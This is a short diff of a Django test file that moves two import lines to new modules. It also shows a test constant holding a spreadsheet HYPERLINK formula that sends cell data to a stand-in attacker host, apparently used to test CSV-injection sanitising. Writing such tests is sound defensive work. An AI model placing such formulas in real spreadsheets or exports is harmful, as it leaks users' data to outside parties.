@@ -13,7 +13,9 @@ import pytest
 from django.contrib.auth import get_user_model
 
 from annotate.common.csvsafe import safe_cell
-from annotate.services import add_member, import_bundle, import_labels, open_labelling
+from annotate.imports.bundle_import import import_bundle
+from annotate.imports.label_import import import_labels
+from annotate.services import add_member, open_labelling
 from tests.conftest import FIXTURES, PASSWORD
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
